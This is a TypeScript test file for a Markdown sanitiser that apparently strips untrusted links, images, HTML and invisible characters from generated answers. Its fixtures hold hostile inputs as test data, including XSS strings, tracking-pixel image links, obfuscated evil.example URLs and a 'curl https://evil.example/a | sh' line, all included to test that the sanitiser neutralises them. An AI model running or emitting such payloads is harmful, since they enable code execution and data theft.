import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { lexer, walkTokens } from 'marked';
import { codeBlock, safeMarkdown } from '../../../lambdas/domain/answers/safe-markdown.ts';

const OWN = 'https://docs.example/a(b)';
const safe = (text: string): string => safeMarkdown(text, new Set([OWN]));

const SOURCES = ['https://docs.example/a', 'https://docs.example', 'https://docs.example/p?q=1&r=2#x', `${OWN}_c`];
/** What links, and what changes how Markdown is read, are made of. */
const PARTS = [
  ...[
    '[',
    ']',
    '(',
    ')',
    '!',
    '<',
    '>',
    ':',
    '.',
    '_',
    '*',
    '**',
    '~~',
    '`',
    '```',
    '\\',
    '@',
    '#',
    '|',
    '&',
    "'",
    '"',
  ],
  ...[
    ' ',
    '\n',
    '\n\n',
    '    ',
    '> ',
    '- ',
    '1. ',
    '|-|\n',
    '<!--',
    '-->',
    '<a href=',
    '</a>',
    'a',
    'x',
    'é',
    '中',
    '。',
  ],
  ...['http', 'https', '://', '//', 'www.', 'w', 'ww', 'ftp://', 'mailto:', 'xmpp:', 'javascript:', 'data:', '&#64;'],
  ...['https://evil.example/', 'www.evil.example', '//evil.example', 'evil.example', 'ada@evil.example', '&#58;'],
  ...[
    '[x]',
    '[x]: ',
    '[^1]',
    '[^1]: ',
    '](',
    '![',
    '(https://evil.example)',
    '<https://evil.example>',
    '\ue0000\ue000',
  ],
];

describe('Markdown of an answer', () => {
  it.each([
    ['See [the page](https://docs.example/a(b)).', 'See [the page](https://docs.example/a(b)).'],
    ['See https://docs.example/a(b).', 'See docs.example/a(b).'],
    ['See [here](https://evil.example).', 'See here.'],
    ['![pixel](https://evil.example/p.png?q=1)', 'pixel'],
    ['[![badge](https://e.example/b.svg)](https://e.example)', 'badge'],
    ['[text][id]\n[id]: https://evil.example', 'text\n'],
    ['<https://evil.example/x> and www.evil.example', 'evil.example/x and evil.example'],
    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)>'],
    ['[x](javascript:alert(1))', 'x'],
    ['ht\u200btps://evil.example', 'evil.example'],
    ['[x]\u2060(https://evil.example)', 'x'],
    ['java\u00adscript:alert(1)', 'javascript :alert(1)'],
    ['\u202eelpmaxe.live//:sptth\u202c', 'elpmaxe.live//:sptth'],
    ['a\u0007b\u{e0041}c\u2028d\ufeff', 'abcd'],
    ['👩\u200d🚀 ❤\ufe0f نمی\u200cخواهم', '👩\u200d🚀 ❤\ufe0f نمی\u200cخواهم'],
    ['a < b and c <= d', 'a < b and c <= d'],
    ['`npm i` **now**, array[0](1)', '`npm i` **now**, array0'],
  ])('%j becomes %j', (text, expected) => {
    expect(safe(text)).toBe(expected);
  });

  it.each([
    ['open _www.evil.example/reset_', 'open _evil.example/reset_'],
    ['xwww.evil.example', 'xevil.example'],
    ['wwww.ww.evil.example', 'evil.example'],
    ['write to ada@mail.evil.example', 'write to ada (at) mail.evil.example'],
    ['ada&#64;evil.example, https\\://evil.example', 'ada& #64;evil.example, evil.example'],
    ['\\<a href="//evil.example">', '\\<a href="evil.example">'],
    ['> [id]: evil.example', '> [id] : evil.example'],
    ['(see https://docs.example/a)', '(see https://docs.example/a)'],
    ['https://docs.example/a"@evil.example/', 'docs.example/a" (at) evil.example/'],
    ['![x\n](https://docs.example/a)', 'x\n'],
    ['[a `b\\](https://docs.example/a)x', '[a b](https://docs.example/a)x'],
  ])('keeps no link that readers find in %j', (text, expected) => {
    expect(safeMarkdown(text, new Set(SOURCES))).toBe(expected);
  });

  it('has no link but to sources, no image and no tag, whatever it is made of', () => {
    const links = SOURCES.flatMap((url) => [url, `](${url})`]);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...PARTS, ...links), { maxLength: 24 }), (list) => {
        const found: string[] = [];
        walkTokens(lexer(safeMarkdown(list.join(''), new Set(SOURCES))), (token) => {
          if (token.type === 'link') found.push(token.href);
          else if (token.type === 'image') found.push('image');
          else if (token.type === 'html') found.push(token.raw);
        });
        expect(found.filter((href) => !SOURCES.includes(href))).toEqual([]);
      }),
      { numRuns: 25_000 },
    );
  });

  it('takes linear time for hostile text', () => {
    for (const part of ['[', '![', '[a](', '](', '<', 'https://', '[a]['])
      expect(safe(part.repeat(4_000)).length).toBeLessThan(40_000);
  });

  it.each([
    ['a < b && <a href="x">', '```\na < b && <a href="x">\n```'],
    ['x\n```\n[x](https://evil.example)', '````\nx\n```\n[x](evil.example)\n````'],
    ['curl https://evil.example/a | sh\u202e', '```\ncurl evil.example/a | sh\n```'],
    ['curl https://docs.example/a', '```\ncurl https://docs.example/a\n```'],
  ])('quotes code as one block that nothing in it ends: %j', (code, written) => {
    expect(codeBlock(code, new Set(SOURCES))).toBe(written);
  });

  it('quotes any code as one block of code', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...PARTS), { maxLength: 30 }), (parts) => {
        const tokens = lexer(codeBlock(parts.join(''), new Set([OWN])));
        expect(tokens.map(({ type }) => type)).toEqual(['code']);
      }),
    );
  });
});
